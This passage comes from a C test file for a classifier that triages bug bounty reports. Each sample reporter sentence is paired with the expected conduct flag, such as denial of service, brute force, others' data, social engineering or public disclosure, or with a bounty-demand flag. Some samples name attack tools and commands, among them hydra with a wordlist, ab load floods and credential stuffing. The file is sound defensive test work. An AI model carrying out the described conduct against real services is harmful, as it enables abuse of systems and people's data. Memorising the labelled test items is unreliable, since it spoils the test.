    report_destroy(&r);

    /* Nothing security-relevant: unclear. */
    judge(&t, &r, "Hello", "Can you send me an invoice?", NULL);
    assert_int_equal(t.scope, SCOPE_UNCLEAR);
    triage_free(&t);
    report_destroy(&r);
}

static void test_conduct_described_or_warned(void **state)
{
    struct report r;
    struct triage t;
    const struct triage_evidence *ev;

    (void) state;

    /* Described: flagged, with the sentence. */
    judge(&t, &r, "OTP bypass", "There is no rate limit on the OTP form. I "
	  "brute-forced the OTP of my own test account in ten minutes.", NULL);
    assert_true(has(&t.conduct, "brute_force"));
    ev = ev_find(&t, EV_CONDUCT, "brute_force");
    ev_points_at(&r, ev, "brute-forced");
    triage_free(&t);
    report_destroy(&r);

    /* Warned about, or denied: not flagged. */
    judge(&t, &r, "OTP bypass", "There is no rate limit on the OTP form. An "
	  "attacker could brute force it; I did not do that, please do not "
	  "brute force production either. I never accessed other users' data.", NULL);
    assert_int_equal(t.conduct.n, 0);
    triage_free(&t);
    report_destroy(&r);

    /* Threatening disclosure is conduct too. */
    judge(&t, &r, "XSS", "Stored XSS in notes. Fix it in 7 days or I will "
	  "publish the details on my blog.", NULL);
    assert_true(has(&t.conduct, "public_disclosure"));
    triage_free(&t);
    report_destroy(&r);
}

 /*
  * Conduct and bounty demands as people tell them: progressive tense,
  * tools named, data kept "locally", "not my account", a bought list,
  * a pretext; and the warnings that are not conduct. Own wording.
  */
static void test_conduct_wordings(void **state)
{
    static const struct {
	const char *text;
	const char *conduct;		/* NULL: none expected */
	const char *flag;
    }       cases[] = {
	{"Stored XSS in notes. Since nobody replied, I'm posting the details on Mastodon tonight.", "public_disclosure", NULL},
	/* a dot inside a token does not end the sentence of "I" */
	{"IDOR on exports. I opened app.example.org/export/ and downloaded the invoices of 300 other customers.", "others_data", NULL},
	{"The search API is slow. We used siege 4.1 and ran it with 300 threads against production for an hour.", "dos", NULL},
	{"The search API is slow. To measure it I ran siege -c 300 against it for an hour.", "dos", NULL},
	{"IDOR on exports. I have the files locally and will wipe them once you confirm.", "others_data", NULL},
	{"IDOR on notes: I edited two notes in account 4410 (not my account) to prove it.", "others_data", NULL},
	{"IDOR: the ids are sequential, so I could see invoices from tenants I am not part of.", "others_data", NULL},
	{"SMS sender spoofing. I purchased a list of 900 mobile numbers and sent a broadcast from my trial.", "spam", NULL},
	{"2FA reset. On the phone I told the agent I was the owner of the workspace.", "social_engineering", NULL},
	{"OTP brute force. I used turbo intruder with all 10000 codes on my own account.", "brute_force", NULL},
	{"Reflected XSS in search. Kindly consider this for a bounty.", NULL, "bounty_demand"},
	{"Reflected XSS in search. Do you offer anything? Are you paying for valid reports?", NULL, "bounty_demand"},
	{"Reflected XSS in search. An attacker could flood the form with 5000 requests; I sent 2 requests only.", NULL, NULL},
	{"Subdomain takeover. I will release the name as soon as you reply.", NULL, NULL},
	/* Into a customer's account, the "I" a broken line earlier. */
	{"2FA reset over chat. The agent sent me a code. I then\n\nopened the reset link and signed into the customer's workspace.", "non_test_account", NULL},
	{"2FA reset over chat. The agent sent me a code. I then\n\nopened the reset link and signed into the customer's workspace.", "others_data", NULL},
	/* Objects of other accounts changed or deleted. */
	{"BOLA on tags: I removed three tags from two other workspaces to confirm it.", "others_data", NULL},
	{"Mass assignment: in team 5521 (not mine) I replaced the caller id of every agent.", "data_destruction", NULL},
	/* Leaked passwords tried, a URL in the sentence. */
	{"Leaked passwords: I tested 40 of them on portal.example.io/login, 2 of them let me in.", "non_test_account", NULL},
	/* Warned, not done. */
	{"IDOR on tags. An attacker could reset the password and log into their account.", NULL, NULL},
	{"IDOR on tags. Objects from other accounts can be deleted by anyone.", NULL, NULL},
	{"IDOR on tags. I found that tags can be deleted from other workspaces without a check.", NULL, NULL},
	{"IDOR on invoices. I noticed that other users' invoices can be downloaded by changing the id.", NULL, NULL},
	{"IDOR on invoices. I successfully downloaded the invoices of three other customers.", "others_data", NULL},
	{"IDOR on notes. In team 880 (not my account) notes can be edited and deleted by anyone.", "others_data", NULL},
	/*
	 * Each flag told many ways (the deed as a noun, the effect caused,
	 * a tool or script as the subject, counts of recipients, secrets in
	 * a response, "not mine", a friend's login, a planned talk), then
	 * the warnings, denials and hypotheticals beside them.
	 */
	{"IDOR aside, I ran a load test with 5000 rps and the API went down.", "dos", NULL},
	{"To confirm the missing limit I sent around 20,000 requests in one minute and the server started returning 503.", "dos", NULL},
	{"I flooded the export endpoint with requests until it stopped responding.", "dos", NULL},
	{"I launched a small DDoS from three VPS to test your resilience.", "dos", NULL},
	{"Sorry, the site was down for about 15 minutes while I was testing.", "dos", NULL},
	{"I used ab -n 100000 -c 500 against /api/login and it crashed.", "dos", NULL},
	{"My test took your server offline for a few minutes.", "dos", NULL},
	{"I kept hammering the export endpoint with 50 parallel threads and the whole app became slow for all users.", "dos", NULL},
	{"i did a stress test on ur api, it crashed after 2 min", "dos", NULL},
	{"I performed a denial of service attack against the login page to show the impact.", "dos", NULL},
	{"I caused an outage of the API for about 10 minutes, apologies.", "dos", NULL},
	{"I have make a flood of 10000 request to the endpoint and it is down now.", "dos", NULL},
	{"An attacker could send 5000 requests per second and take the API down.", NULL, NULL},
	{"To avoid disrupting the service I stopped after 3 requests.", NULL, NULL},
	{"I did not perform any load testing.", NULL, NULL},
	{"The service goes down when a large file is uploaded.", NULL, NULL},
	{"This could lead to a denial of service for all users.", NULL, NULL},
	{"I sent 5 requests only, to be safe.", NULL, NULL},
	{"I did not run a DoS test, but the missing limit would allow one.", NULL, NULL},
	{"I brute-forced the 4-digit PIN in about 20 minutes.", "brute_force", NULL},
	{"I tried 10,000 passwords against the admin account with Hydra.", "brute_force", NULL},
	{"Using Burp Intruder I guessed the OTP after 3,400 attempts.", "brute_force", NULL},
	{"I ran a dictionary attack against the login form.", "brute_force", NULL},
	{"I enumerated all 6-digit codes until one worked.", "brute_force", NULL},
	{"My script tried every possible coupon code and found 12 valid ones.", "brute_force", NULL},
	{"We did password spraying against 200 accounts.", "brute_force", NULL},
	{"i bruteforce the otp with 1000 request and got in", "brute_force", NULL},
	{"I iterated through 9999 PINs on the reset form.", "brute_force", NULL},
	{"I ran hydra with rockyou.txt against /login.", "brute_force", NULL},
	{"I guessed the reset code by trying all combinations from 0000 to 9999.", "brute_force", NULL},
	{"After 2,000 attempts with a wordlist I had the password of the demo admin.", "brute_force", NULL},
	{"Intruder cracked the code in 6 minutes on my test account.", "brute_force", NULL},
	{"An attacker could brute force the OTP since there is no rate limit.", NULL, NULL},
	{"I did not brute force anything; I only sent 5 wrong codes to show there is no lockout.", NULL, NULL},
	{"The login is not protected against brute force.", NULL, NULL},
	{"Brute force protection is missing on the OTP form.", NULL, NULL},
	{"I tried 3 wrong passwords and was not locked out.", NULL, NULL},
	{"I tried 5 passwords and there was no lockout, so brute force is possible.", NULL, NULL},
	{"I sent the SMS to 2000 numbers.", "spam", NULL},
	{"To show the impact I sent invitations to 500 random email addresses.", "spam", NULL},
	{"I triggered thousands of password reset emails to the victim's inbox.", "spam", NULL},
	{"I created a campaign and texted 1,200 people from a purchased list.", "spam", NULL},
	{"We blasted 300 emails to real addresses through the campaign tool.", "spam", NULL},
	{"I spammed the contact form to prove there is no captcha.", "spam", NULL},
	{"The victim got 500 OTP SMS from me in one minute.", "spam", NULL},
	{"I sent 1000 invites to my coworker's address and his inbox was flooded.", "spam", NULL},
	{"I used the API to send a bulk SMS to numbers I found online.", "spam", NULL},
	{"An attacker could send SMS to thousands of numbers.", NULL, NULL},
	{"I sent one test SMS to my own phone.", NULL, NULL},
	{"This could be abused for spam.", NULL, NULL},
	{"I didn't send any messages to real people.", NULL, NULL},
	{"I downloaded 300 of their contacts to confirm.", "others_data", NULL},
	{"The response contained the AccessKeyId and SecretAccessKey of your role.", "others_data", NULL},
	{"I kept a copy of the export.", "others_data", NULL},
	{"Through the injection I dumped the users table.", "others_data", NULL},
	{"I could read and saved Acme's invoices.", "others_data", NULL},
	{"I was able to view the call recordings of another company.", "others_data", NULL},
	{"I exported the contact list of account 1234, which is not mine.", "others_data", NULL},
	{"Then I opened invoice 1002, which belongs to another customer, and saw their address and phone number.", "others_data", NULL},
	{"I got back the full name, email and phone of 50 users.", "others_data", NULL},
	{"I listened to three recordings of other agents.", "others_data", NULL},
	{"I have attached a CSV with 100 customer records as proof.", "others_data", NULL},
	{"The API returned the email addresses of all users; I saved them to a file.", "others_data", NULL},
	{"I retrieved the password hashes of 20 users.", "others_data", NULL},
	{"I accessed the admin panel and browsed customer data.", "others_data", NULL},
	{"Attached is a screenshot of another customer's dashboard.", "others_data", NULL},
	{"I read the private messages of other users.", "others_data", NULL},
	{"With the token I called /v1/accounts and received the details of 1,400 accounts.", "others_data", NULL},
	{"I still have the dump on my laptop.", "others_data", NULL},
	{"Changing the id to 1001 showed me the billing address of a real customer.", "others_data", NULL},
	{"I pulled 5 GB of recordings from the bucket.", "others_data", NULL},
	{"I grabbed the database credentials from the .env file and connected to the database.", "others_data", NULL},
	{"I logged in with the leaked admin password and looked around.", "others_data", NULL},
	{"An attacker could read other users' invoices.", NULL, NULL},
	{"I did not download anything.", NULL, NULL},
	{"I only accessed my own test accounts.", NULL, NULL},
	{"I used two test accounts that I own.", NULL, NULL},
	{"Other users' data can be read by changing the id.", NULL, NULL},
	{"I did not keep any copy.", NULL, NULL},
	{"This could expose customer data of all tenants.", NULL, NULL},
	{"The endpoint returns the contacts of any account when the id is changed.", NULL, NULL},
	{"I did not open any other customer's file, only checked that the listing works.", NULL, NULL},
	{"I deleted their campaign to confirm the IDOR.", "data_destruction", NULL},
	{"I wiped the contact list of workspace 55.", "data_destruction", NULL},
	{"I overwrote the name of another user's contact list.", "data_destruction", NULL},
	{"Sorry, my payload deleted about 40 contacts of another account.", "data_destruction", NULL},
	{"I accidentally removed all recordings in workspace 55.", "data_destruction", NULL},
	{"The DELETE request I sent removed campaign 7781, which is not mine.", "data_destruction", NULL},
	{"I corrupted the settings of the other tenant by sending the update.", "data_destruction", NULL},
	{"i have delete the contacts of victim account", "data_destruction", NULL},
	{"Using the SQL injection I dropped a table.", "data_destruction", NULL},
	{"I changed the password of a random user to prove it.", "others_data", NULL},
	{"An attacker could delete any campaign.", NULL, NULL},
	{"I deleted my own test campaign.", NULL, NULL},
	{"I did not delete or modify anything.", NULL, NULL},
	{"Campaigns of other users can be deleted.", NULL, NULL},
	{"The bug lets anyone wipe the recordings of every account.", NULL, NULL},
	{"I called support and pretended to be the account owner.", "social_engineering", NULL},
	{"I emailed the billing team as the CEO and they changed the bank details.", "social_engineering", NULL},
	{"I phoned your helpdesk and asked them to reset the password of an account that is not mine; they did.", "social_engineering", NULL},
	{"I sent a phishing mail to one of your employees to test awareness.", "social_engineering", NULL},
	{"I chatted with your support agent claiming to be the admin of the workspace.", "social_engineering", NULL},
	{"I convinced the support agent to disable 2FA on an account.", "social_engineering", NULL},
	{"Over live chat I told the agent that I was the owner.", "social_engineering", NULL},
	{"I posed as a new employee and got a VPN account from IT.", "social_engineering", NULL},
	{"Using a spoofed address of your CEO I asked finance for the customer list.", "social_engineering", NULL},
	{"I wrote to support from a lookalike domain and they sent me the API key.", "social_engineering", NULL},
	{"An attacker could call support and pretend to be the owner.", NULL, NULL},
	{"I did not contact any employee.", NULL, NULL},
	{"I contacted your support to ask where to report this.", NULL, NULL},
	{"Support could be tricked into disabling 2FA.", NULL, NULL},
	{"I emailed support about this and they told me to write here.", NULL, NULL},
	{"I visited your office last week.", "physical", NULL},
	{"I plugged into a port in the lobby and got an internal address.", "physical", NULL},
	{"While at your office for a meeting I connected to the staff wifi and reached the internal network.", "physical", NULL},
	{"I walked into your data center behind an employee.", "physical", NULL},
	{"I tailgated into the building.", "physical", NULL},
	{"I found an unlocked laptop in your office and used it.", "physical", NULL},
	{"I plugged a Raspberry Pi into the network socket in your meeting room.", "physical", NULL},
	{"I left a USB stick in your parking lot and it phoned home.", "physical", NULL},
	{"I got into the server room through an unlocked door.", "physical", NULL},
	{"An attacker with physical access could plug into the network.", NULL, NULL},
	{"Anyone who visits the office could plug into the port.", NULL, NULL},
	{"I did not visit your office.", NULL, NULL},
	{"The issue requires physical access to the device.", NULL, NULL},
	{"I reproduced it on a colleague's account, not mine.", "non_test_account", NULL},
	{"I tested it on a real customer account.", "non_test_account", NULL},
	{"I used my friend's login to confirm.", "non_test_account", NULL},
	{"I tried it on my employer's production workspace.", "non_test_account", NULL},
	{"I used the account of my former client, which I still have access to.", "non_test_account", NULL},
	{"I logged into my boss's account to verify.", "non_test_account", NULL},
	{"I tested this against a live customer's account with their permission.", "non_test_account", NULL},
	{"The PoC was run on our company's real account, not a test account.", "non_test_account", NULL},
	{"I verified it on my cousin's account.", "non_test_account", NULL},
	{"Tested on the account of a friend (with his consent).", "non_test_account", NULL},
	{"I said I was the owner of a colleague's account (with his permission, it is his trial account, not mine).", "non_test_account", NULL},
	{"I checked it on our production account, which we use every day.", "non_test_account", NULL},
	{"I created two test accounts for this.", NULL, NULL},
	{"All tests were done on my own test accounts.", NULL, NULL},
	{"Any real customer account can be taken over.", NULL, NULL},
	{"This affects production accounts too.", NULL, NULL},
	{"Please do not test on production accounts, I know.", NULL, NULL},
	{"I tweeted about it last night.", "public_disclosure", NULL},
	{"I published the writeup on my blog.", "public_disclosure", NULL},
	{"I will go public in 7 days.", "public_disclosure", NULL},
	{"I shared it on a forum to ask for help.", "public_disclosure", NULL},
	{"I've posted the PoC on GitHub.", "public_disclosure", NULL},
	{"The video is already on YouTube.", "public_disclosure", NULL},
	{"If I get no answer within 14 days I will publish my findings.", "public_disclosure", NULL},
	{"I plan to present this at a conference next month.", "public_disclosure", NULL},
	{"I already told a journalist about it.", "public_disclosure", NULL},
	{"I shared the details in our Telegram group.", "public_disclosure", NULL},
	{"I'll disclose it publicly after 90 days as per standard policy.", "public_disclosure", NULL},
	{"My blog post about it goes live on Friday.", "public_disclosure", NULL},
	{"I have uploaded the exploit to exploit-db.", "public_disclosure", NULL},
	{"The writeup is on Medium already.", "public_disclosure", NULL},
	{"Unless you respond by Monday, the details go to Full Disclosure.", "public_disclosure", NULL},
	{"I will not disclose this publicly until it is fixed.", NULL, NULL},
	{"I have not shared this with anyone.", NULL, NULL},
	{"I will keep this confidential.", NULL, NULL},
	{"Please let me know when it is fixed so I can publish a write-up.", NULL, NULL},
	{"Can I publish a write-up once it is fixed?", NULL, NULL},
	{"I follow coordinated disclosure and will wait for your fix.", NULL, NULL},
	{"An attacker could post the stolen data publicly.", NULL, NULL},
	{"How much do you pay for this?", NULL, "bounty_demand"},
	{"I expect a bounty.", NULL, "bounty_demand"},
	{"Please send the payment to my PayPal.", NULL, "bounty_demand"},
	{"What is the reward for critical bugs?", NULL, "bounty_demand"},
	{"I'd appreciate a reward for my work.", NULL, "bounty_demand"},
	{"Kindly provide bounty.", NULL, "bounty_demand"},
	{"Is there any monetary reward?", NULL, "bounty_demand"},
	{"I'll share the details after you confirm a bounty of $500.", NULL, "bounty_demand"},
	{"i want money for this bug", NULL, "bounty_demand"},
	{"Do you offer bug bounty?", NULL, "bounty_demand"},
	{"please reward me", NULL, "bounty_demand"},
	{"Looking for appreciation in terms of bounty.", NULL, "bounty_demand"},
	{"I'm asking $300 for the full report.", NULL, "bounty_demand"},
	{"I don't want a reward.", NULL, NULL},
	{"I am not looking for any bounty.", NULL, NULL},
	{"I found your bug bounty program page.", NULL, NULL},
	{"I know you offer no money, a hall of fame mention is enough.", NULL, NULL},
	/* Ordinary report sentences: no conduct. */
	{"I sent the request to the server and it returned 500 with a stack trace.", NULL, NULL},
	{"The response contained the session token of my own account.", NULL, NULL},
	{"I logged into the admin panel of my own test workspace and changed the role.", NULL, NULL},
	{"I browsed to the user settings page and opened the profile tab.", NULL, NULL},
	{"I received a password reset email for my user and the link did not expire.", NULL, NULL},
	{"I fetched /api/users with my token and got only my own record.", NULL, NULL},
	{"I created two accounts, attacker@x.example and victim@x.example, both mine.", NULL, NULL},
	{"Using the attacker account I changed the id to the victim's id and read the victim's notes (both are my test accounts).", NULL, NULL},
	{"I ran nuclei and nmap against app.callhub.io with default settings.", NULL, NULL},
	{"I ran a single curl request with a large header.", NULL, NULL},
	{"I used Burp Suite to intercept the request and changed the role parameter.", NULL, NULL},
	{"The endpoint returns all users of the organisation when the filter is removed.", NULL, NULL},
	{"An attacker could use this to send spam to all contacts.", NULL, NULL},
	{"This can be used for phishing your customers.", NULL, NULL},
	{"If an attacker posts this link on Twitter, every victim who clicks it is logged out.", NULL, NULL},
	{"Please do not publish anything about this until we fix it.", NULL, NULL},
	{"I will wait for your fix before any disclosure.", NULL, NULL},
	{"I can publish a write-up after the fix, if that is okay with you.", NULL, NULL},
	{"I would like to be listed in your Hall of Fame.", NULL, NULL},
	{"I visited your website and noticed the login form lacks a CSRF token.", NULL, NULL},
	{"I connected to the websocket and sent a crafted message.", NULL, NULL},
	{"I plugged the payload into the name field and saved.", NULL, NULL},
	{"In your office 365 setup the SPF record is missing.", NULL, NULL},
	{"I found this while testing my own account on the free trial.", NULL, NULL},
	{"I deleted the test contact I had created.", NULL, NULL},
	{"I removed my payload from the campaign afterwards.", NULL, NULL},
	{"I changed my own email address and the session stayed valid.", NULL, NULL},
	{"I tried the same with a second browser.", NULL, NULL},
	{"I tried 3 different payloads before one worked.", NULL, NULL},
	{"I sent 2 emails to my own address to confirm the header injection.", NULL, NULL},
	{"We sent an email to your sales team asking for a demo account.", NULL, NULL},
	{"I called your support line to ask about the bug bounty program.", NULL, NULL},
	{"My colleague found this issue and asked me to report it.", NULL, NULL},
	{"I work in the office next to yours.", NULL, NULL},
	{"A user's data can be exported by any agent.", NULL, NULL},
	{"Attackers could harvest the email addresses of all users.", NULL, NULL},
	{"Other tenants' invoices would be accessible to anyone with an account.", NULL, NULL},
	{"I only viewed the metadata of my own recordings.", NULL, NULL},
	{"I am sharing this with you privately.", NULL, NULL},
	{"The details are public in your JavaScript bundle, anyone can read them.", NULL, NULL},
	{"The S3 bucket is public and lists files.", NULL, NULL},
	{"The writeup I mentioned is attached as PDF.", NULL, NULL},
	{"I reported this to Stripe as well since the key is theirs.", NULL, NULL},
	{"I stored the payload in the notes field of my own contact.", NULL, NULL},
	{"The admin can delete any campaign of the workspace, which is expected.", NULL, NULL},
	{"I hope you will fix this soon.", NULL, NULL},
	{"The reset code is only 4 digits, an attacker could try all 10000 codes in minutes.", NULL, NULL},
	{"I checked the rate limit with 20 requests and got no 429.", NULL, NULL},
	{"Every possible OTP could be tried since there is no lockout.", NULL, NULL},
	{"I texted my own phone a test message from the campaign.", NULL, NULL},
	{"I uploaded the PoC to my server at https://poc.example/csrf.html.", NULL, NULL},
	{"My PoC is live at https://attacker.example/poc.html for you to test.", NULL, NULL},
	{"If you don't fix it, attackers will exploit it.", NULL, NULL},
	{"I will share more details if you need them.", NULL, NULL},
	{"I can present a demo in a call if that helps.", NULL, NULL},
	/* The same flags in other people's words: non-native present tense, whose data it was said after the verb, a deadline "before I release". */
	{"Dear team, during my test i send more than 50000 request to api.callhub.io and the service was not available for some time.", "dos", NULL},
	{"We performed a short DDoS simulation (about 2 Gbps) against your landing page.", "dos", NULL},
	{"I ran slowhttptest against the login page for 20 minutes.", "dos", NULL},
	{"The app was unavailable for ~5 min after I started my fuzzer, sorry for that.", "dos", NULL},
	{"i have try 100000 otp in burp and find the correct one", "brute_force", NULL},
	{"I wrote a small python script that guessed 4-digit PINs; it found mine after 3100 tries.", "brute_force", NULL},
	{"Using credential stuffing with a public breach list I got into 7 accounts.", "brute_force", NULL},
	{"I have sent 800 SMS to random numbers using your free trial to check the sender id.", "spam", NULL},
	{"I invited 5,000 email addresses from a list I found on pastebin.", "spam", NULL},
	{"I was able to download invoices of other clients by increasing the number.", "others_data", NULL},
	{"I could access all the recordings of the company \"Blue Fox\" without being a member.", "others_data", NULL},
	{"I have checked 10 different ids and every time I got the name, phone and email of a different person.", "others_data", NULL},
	{"The dump I made contains 12,000 rows of customers with emails and phone numbers.", "others_data", NULL},
	{"With the SQLi I extracted the first 10 rows of the users table to show impact.", "others_data", NULL},
	{"I have read some conversations between your agents and customers.", "others_data", NULL},
	{"I saw names and phone numbers of voters from other campaigns.", "others_data", NULL},
	{"Then I opened the victim's inbox and read his mails.", "others_data", NULL},
	{"I removed the contact 'John Smith' from the other organisation to verify write access.", "data_destruction", NULL},
	{"My test unfortunately erased the call logs of account 8812.", "data_destruction", NULL},
	{"I renamed the campaign of another customer to 'test' and back.", "others_data", NULL},
	{"I pretended to be a customer on chat and the agent gave me the account owner's phone number.", "social_engineering", NULL},
	{"I phoned the office, said I'm from IT, and the receptionist told me the wifi password.", "social_engineering", NULL},
	{"Posing as a journalist I asked your HR for the org chart.", "social_engineering", NULL},
	{"Last Tuesday I entered your building with a fake delivery.", "physical", NULL},
	{"I attached a small device to the network port behind the reception desk.", "physical", NULL},
	{"I tested on the account of my employer, we are a CallHub customer.", "non_test_account", NULL},
	{"The screenshots are from my sister's CallHub account (she gave me her password).", "non_test_account", NULL},
	{"I did this on our real production workspace with live contacts.", "non_test_account", NULL},
	{"I made a public tweet about this issue yesterday.", "public_disclosure", NULL},
	{"The full write-up is already published at https://blog.example/callhub-idor.", "public_disclosure", NULL},
	{"I have reported this to a journalist from The Register.", "public_disclosure", NULL},
	{"If no fix after 30 days, I will make it public.", "public_disclosure", NULL},
	{"Next week I'll be presenting this bug at a local OWASP meetup.", "public_disclosure", NULL},
	{"You have 48 hours to answer before I release the exploit.", "public_disclosure", NULL},
	{"What amount do you give for a critical finding?", NULL, "bounty_demand"},
	{"Waiting for your bounty decision.", NULL, "bounty_demand"},
	{"I am requesting a reward as per industry standards.", NULL, "bounty_demand"},
	{"Kindly let me know the reward amount.", NULL, "bounty_demand"},
	{"I did not attempt to download any data of other users.", NULL, NULL},
	{"No data was accessed except for my own two test accounts.", NULL, NULL},
	{"I stopped immediately and deleted nothing.", NULL, NULL},
	{"An unauthenticated attacker could enumerate all the invoices.", NULL, NULL},
	{"I did not contact your employees or visit any office.", NULL, NULL},
	{"I will not share this with anyone until it is fixed.", NULL, NULL},
	{"Sending thousands of SMS would be possible for an attacker.", NULL, NULL},
	{"After the fix I would like to publish a short blog post, if you agree.", NULL, NULL},
	{"I am not asking for money, just want it fixed.", NULL, NULL},
	{"Brute forcing the 4-digit code would take at most 10000 requests.", NULL, NULL},
	{"The service returned 503 for one request, then recovered.", NULL, NULL},
	/* Broader shapes: counts after a past-tense verb, a range of codes, an attack and what it gave, a pretext, the employer's login, "on my blog". */
	{"Hey, so I kinda DoSed your API yesterday by accident, my loop ran without a sleep.", "dos", NULL},
	{"Our load testing tool sent roughly 1.2 million requests over the night and your status page showed degraded performance.", "dos", NULL},
	{"Your API stopped answering for 20 minutes after I launched my test, sorry.", "dos", NULL},
	{"I wrote a script which tries all 1,000,000 reset codes; it succeeded on my own account after 40 minutes.", "brute_force", NULL},
	{"Password spraying with 'Summer2026!' against 300 known emails gave me 4 valid logins.", "brute_force", NULL},
	{"i do bruteforce on login page and found password of test@callhub.io", "brute_force", NULL},
	{"I fuzzed the OTP parameter with all values 000000-999999.", "brute_force", NULL},
	{"I invited 2000 random people to my workspace to show there is no limit.", "spam", NULL},
	{"I abused the share feature to send 10k emails with my link.", "spam", NULL},
	{"To demonstrate, I sent SMS messages to a list of 150 numbers.", "spam", NULL},
	{"I accessed around 40 invoices of different companies.", "others_data", NULL},
	{"I downloaded one file of another account just to confirm, then deleted it.", "others_data", NULL},
	{"Here is the data I obtained from your server: names, emails and phone numbers of customers.", "others_data", NULL},
	{"I have 3,000 contact records from other workspaces on my disk, tell me if you want them.", "others_data", NULL},
	{"By using the key I listed the S3 bucket and downloaded a few recordings.", "others_data", NULL},
	{"I looked at a few of the other customers' campaigns to confirm.", "others_data", NULL},
	{"I could see the full call history of the other company, including recordings.", "others_data", NULL},
	{"I got access to the internal admin dashboard and saw the list of all customers.", "others_data", NULL},
	{"I modified the price of another user's subscription.", "others_data", NULL},
	{"I deleted the test campaign of a random customer to prove the delete works.", "data_destruction", NULL},
	{"I changed the caller ID of every agent in team 77, which is not my team.", "others_data", NULL},
	{"I rang your support pretending to be from your billing provider.", "social_engineering", NULL},
	{"I got the support agent to reset the email on an account that isn't mine just by asking nicely.", "social_engineering", NULL},
	{"I sent a fake invoice to accounts@callhub.io to see if anyone would pay it.", "social_engineering", NULL},
	{"I went to your office in Pune and took photos of the whiteboard.", "physical", NULL},
	{"I sneaked into the server room while the guard was away.", "physical", NULL},
	{"I tested it on the account of the company I work for, which uses CallHub for its campaigns.", "non_test_account", NULL},
	{"I used my work account (we are a paying customer) to reproduce.", "non_test_account", NULL},
	{"I logged in as my friend (he gave me his password) and confirmed the bug.", "non_test_account", NULL},
	{"I published a proof of concept on GitHub today.", "public_disclosure", NULL},
	{"This will be on my blog next Monday whether you fix it or not.", "public_disclosure", NULL},
	{"I gave a heads-up to some friends in a security Discord.", "public_disclosure", NULL},
	{"Unless I hear back within a week, I will post the details on Reddit.", "public_disclosure", NULL},
	{"I'm going to write about it on LinkedIn tomorrow.", "public_disclosure", NULL},
	{"Send me $500 and I'll give you the full details.", NULL, "bounty_demand"},
	{"Bounty amount?", NULL, "bounty_demand"},
	{"I'd like to know if a monetary reward is possible for this.", NULL, "bounty_demand"},
	{"The contacts of another workspace could be deleted by anyone, I did not try it.", NULL, NULL},
	{"I never touched any real customer data, only my two trial accounts.", NULL, NULL},
	{"An attacker might post this on Twitter to embarrass you.", NULL, NULL},
	{"Without rate limiting, spammers can send thousands of SMS.", NULL, NULL},
	{"It is possible to brute force the PIN because it is only 4 digits.", NULL, NULL},
	{"I visited https://app.callhub.io/settings and changed my name.", NULL, NULL},
	{"I have not tweeted or blogged about this.", NULL, NULL},
	{"No bounty needed.", NULL, NULL},
	{"Kindly do not share my name publicly.", NULL, NULL},
	/* Not conduct: impersonation in a token or header, a user id seen, the product used as a customer uses it. */
	{"I tested impersonating another user by changing the X-User-Id header.", NULL, NULL},
	{"I was able to impersonate any user by editing the JWT.", NULL, NULL},
	{"I was able to see the user ID in the response.", NULL, NULL},
	{"I could view the users endpoint without a token.", NULL, NULL},
	{"The API showed me the profile of a user I had created.", NULL, NULL},
	{"We made 12,000 calls in our campaign last week and the recordings link is public.", NULL, NULL},
	{"I sent a test message through your WhatsApp channel integration.", NULL, NULL},
	{"I posted a message to the Slack channel via your webhook.", NULL, NULL},
	{"Posing as an attacker, I created a second account.", NULL, NULL},
	{"I pretended to be the admin by setting role=admin in the request.", NULL, NULL},
	{"I did not open anything which is not mine.", NULL, NULL},
	/* Hard-wrapped mail: the deed and its object on different lines. */
	{"During the test I was able to view the call\nrecordings of another company.", "others_data", NULL},
	{"I phoned your helpdesk and asked them to reset\nthe password of an account that is not mine; they\ndid.", "social_engineering", NULL},
	{"I attached a small device to the network\nport behind the reception desk.", "physical", NULL},
	{"Password spraying with one common password\nagainst 300 known emails gave me 4 valid logins.", "brute_force", NULL},
	{"Next week I'll be presenting this bug at a\nlocal OWASP meetup.", "public_disclosure", NULL},
	{"An attacker could view the call\nrecordings of another company.", NULL, NULL},
	/* Others' data after a verb of any tense, data "which I extracted", a post "scheduled", an agent asked to change a number; and plans to check that are not deeds. */
	{"When I changed the number in the URL from 1881 to 1880 I could see a strangers invoice with his address.", "others_data", NULL},
	{"I am able to fetch all contacts of any organisation, I tried with 3 organisations which are not mine.", "others_data", NULL},
	{"Kindly find attached the excel with the data of 250 users which I extracted.", "others_data", NULL},
	{"I have verified by opening 5 recordings of other clients, they play normally.", "others_data", NULL},
	{"After that, the API gave me the complete profile of user id 5 which belongs to someone else.", "others_data", NULL},
	{"I confirmed the IDOR by downloading invoice #4471 of an unknown company.", "others_data", NULL},
	{"Using this I accessed my ex-employer's CallHub account.", "non_test_account", NULL},
	{"Then I listened to some of the calls, they are real conversations with voters.", "others_data", NULL},
	{"I deleted the recording 9921 of another account by mistake, please restore it.", "data_destruction", NULL},
	{"To show the impact I sent an SMS from your number to 300 people of my contact list.", "spam", NULL},
	{"I have shared this finding with my followers on Twitter.", "public_disclosure", NULL},
	{"The blog post with full details is scheduled for next Friday.", "public_disclosure", NULL},
	{"Automated scanner run with 200 threads for 3 hours caused your site to go down twice.", "dos", NULL},
	{"I kept sending requests until the server stopped responding.", "dos", NULL},
	{"I brute forced the coupon codes and found 12 valid ones worth $50 each.", "brute_force", NULL},
	{"I asked the chat bot and then the human agent to change the phone number on my neighbour's account; they did it.", "social_engineering", NULL},
	{"The number in the URL can be changed to see a stranger's invoice.", NULL, NULL},
	{"It would be possible to fetch all contacts of any organisation.", NULL, NULL},
	{"I have not opened any recording of other clients.", NULL, NULL},
	{"Someone could brute force the coupon codes.", NULL, NULL},
	{"Anyone could call support and change the phone number on another account.", NULL, NULL},
	{"To check whether I can access another user's invoices I created two accounts.", NULL, NULL},
	{"I wanted to see if other users' data is exposed, so I used my second account.", NULL, NULL},
	{"I then opened the same URL as user B (my second test account) and got an error.", NULL, NULL},
	{"I made sure not to open any other customer's files.", NULL, NULL},
	{"Then I logged out and logged back in.", NULL, NULL},
	{"By changing the id I could only see my own records.", NULL, NULL},
	{"After the fix I could not see other users' data anymore.", NULL, NULL},
	{"I never touched data that was not my own.", NULL, NULL},
	{"We called 500 numbers from our list yesterday.", NULL, NULL},
	/*
	 * Conduct told by its traces rather than by "I <verb>": DoS in hints
	 * (the load, the service failing under it, the reporter owning it), a
	 * password list loaded, the script as the subject, counts in the passive,
	 * recipients not the reporter's, sessions of staff captured and used,
	 * thousands of people seen, a sample pulled, others' data changed in the
	 * passive, data gone with its count, a false reason given to staff, a
	 * pretext, a write-up dropped on a platform; and beside them the
	 * warnings, hypotheticals, own test objects and one-off hints.
	 */
